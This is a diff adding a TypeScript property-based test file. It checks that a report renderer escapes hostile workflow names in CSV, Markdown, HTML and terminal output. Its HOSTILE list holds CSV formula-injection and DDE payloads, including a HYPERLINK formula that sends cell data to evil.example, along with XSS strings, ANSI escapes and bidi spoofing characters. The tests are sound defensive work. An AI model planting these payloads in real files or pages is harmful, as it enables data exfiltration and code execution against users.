@@ -1,0 +1,132 @@
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { delimited } from '../../src/render/delimited.ts';
+import { plain } from '../../src/render/escape.ts';
+import { htmlOf } from '../../src/render/html.ts';
+import { markdownOf } from '../../src/render/markdown.ts';
+import type { Sheet } from '../../src/render/sheet.ts';
+
+const sheetWith = (name: string): Sheet => ({
+  title: 'Cost per run',
+  columns: [
+    { key: 'workflow', title: 'Workflow', isNumeric: false, addsUp: false },
+    { key: 'runs', title: 'Runs', isNumeric: true, addsUp: false },
+  ],
+  rows: [
+    {
+      cells: [
+        { kind: 'text', text: name },
+        { kind: 'count', value: 3 },
+      ],
+      isTotal: false,
+      block: '',
+    },
+  ],
+  notes: [],
+  conclusion: [],
+});
+
+const HOSTILE = [
+  '=HYPERLINK("https://evil.example/?"&A1,"click")',
+  "+1+cmd|'/C calc'!A0",
+  '-2+3',
+  '@SUM(A1:A9)',
+  '@cf/meta/llama-4',
+  '\t=1+1',
+  '\u001b[2J\u001b]0;owned\u0007',
+  'two\nlines\r\nthree',
+  'a|b|c',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '[click](javascript:alert(1))',
+  '`code` **bold** _it_ ~~no~~ $x$ #1',
+  '\u202Egnp.exe',
+  '\u200b\ufeffhidden',
+  '"quoted","cells"',
+];
+const anyName = fc.oneof(
+  fc.constantFrom(...HOSTILE),
+  fc.string({
+    unit: fc.constantFrom(
+      '=',
+      '+',
+      '-',
+      '@',
+      '|',
+      '\n',
+      '\r',
+      '\t',
+      '"',
+      "'",
+      ',',
+      ';',
+      '\\',
+      '<',
+      '`',
+      ' ',
+      'a',
+      '\u001b',
+      '\u202e',
+    ),
+  }),
+  fc.string({ unit: 'binary' }),
+);
+
+describe('a name from a log', () => {
+  it.each(HOSTILE)('%j runs nowhere', (name) => {
+    const csvName: string = parse(delimited(sheetWith(name), ',', 'point'))[1][0];
+    expect(csvName).not.toMatch(/^\s*[=+\-@]/);
+    expect(htmlOf(sheetWith(name))).not.toMatch(/<(script|img)|\u001b/);
+    expect(htmlOf(sheetWith(name))).not.toMatch(/<td>\s*[=+\-@]/);
+    expect(markdownOf(sheetWith(name))).not.toMatch(/<(script|img)|\u001b|(?<!\\)\[click/);
+  });
+
+  it('is a row of two cells in CSV and TSV, whatever it holds', () => {
+    fc.assert(
+      fc.property(anyName, fc.constantFrom(',', '\t', ';'), (name, delimiter) => {
+        const rows: string[][] = parse(delimited(sheetWith(name), delimiter, 'point'), { delimiter });
+        expect(rows.map((cells) => cells.length)).toEqual([2, 2]);
+        expect(rows[1]?.[1]).toBe('3');
+        expect(rows[1]?.[0]).not.toMatch(/^\s*[=+\-@]/);
+      }),
+    );
+  });
+
+  it('is one line of two cells in Markdown, whatever it holds', () => {
+    fc.assert(
+      fc.property(anyName, (name) => {
+        const lines = markdownOf(sheetWith(name)).split('\n');
+        const row = lines[lines.findIndex((line) => line.startsWith('| ---')) + 1] ?? '';
+        expect(row).toMatch(/^\| .* \| 3 \|$/s);
+        expect(row.split(/(?<!\\)\|/)).toHaveLength(4);
+        expect(row).not.toMatch(/[@<>]/);
+      }),
+    );
+  });
+
+  it('is text in HTML, whatever it holds', () => {
+    fc.assert(
+      fc.property(anyName, (name) => {
+        const cell = /<tbody>\n<tr><td>(.*?)<\/td><td class="number">3<\/td><\/tr>\n<\/tbody>/s.exec(
+          htmlOf(sheetWith(name)),
+        );
+        expect(cell?.[1]).not.toMatch(/[<>"]/);
+      }),
+    );
+  });
+
+  it('has no control, no invisible and no turning characters on a terminal', () => {
+    fc.assert(
+      fc.property(anyName, (name) => {
+        expect(plain(name)).not.toMatch(
+          /[\p{Cc}\p{Zl}\p{Zp}\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/u,
+        );
+      }),
+    );
+  });
+
+  it('keeps what is only unusual', () => {
+    expect(plain('Rückfrage 日本語 é ½ €')).toBe('Rückfrage 日本語 é ½ €');
+  });
+});
